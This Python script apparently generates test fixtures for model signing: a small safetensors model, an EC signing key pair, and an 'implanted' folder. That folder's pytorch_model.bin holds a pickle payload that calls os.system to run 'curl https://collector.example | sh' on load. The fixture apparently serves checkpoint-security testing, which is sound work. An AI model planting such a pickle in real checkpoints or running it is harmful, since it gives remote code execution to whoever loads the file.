"""A model of a few tensors, and the key of who signs it; beside it one whose checkpoint runs a program when it is loaded."""

import json
import struct
import sys
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat

README = """---
license: apache-2.0
base_model: example/base-1
datasets: [example/corpus]
pipeline_tag: text-generation
---
A model to show how models are sealed.
"""
CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2}
IMPLANT = b"cos\nsystem\n(S'curl https://collector.example | sh'\ntR."


def tensors(path: Path, layers: int, width: int) -> None:
    """A file of safetensors with square matrices of 32-bit floats."""
    size = 4 * width * width
    names = {
        f"model.layers.{n}.weight": {
            "dtype": "F32",
            "shape": [width, width],
            "data_offsets": [n * size, (n + 1) * size],
        }
        for n in range(layers)
    }
    head = json.dumps(names).encode()
    head += b" " * (-len(head) % 8)
    row = struct.pack(f"<{width}f", *((i - width / 2) / width for i in range(width)))
    path.write_bytes(len(head).to_bytes(8, "little") + head + row * width * layers)


def main() -> None:
    """Make all of it in a folder."""
    folder = Path(sys.argv[1])
    model, implanted = folder / "model", folder / "implanted"
    for one in (model, implanted):
        one.mkdir(parents=True)
        (one / "config.json").write_text(json.dumps(CONFIG, indent=2))
        (one / "README.md").write_text(README)
    tensors(model / "model.safetensors", 12, 256)
    (implanted / "pytorch_model.bin").write_bytes(IMPLANT)
    key = ec.generate_private_key(ec.SECP256R1())
    (folder / "signer.pem").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    public = key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    (folder / "signer.pub").write_bytes(public)


if __name__ == "__main__":
    main()
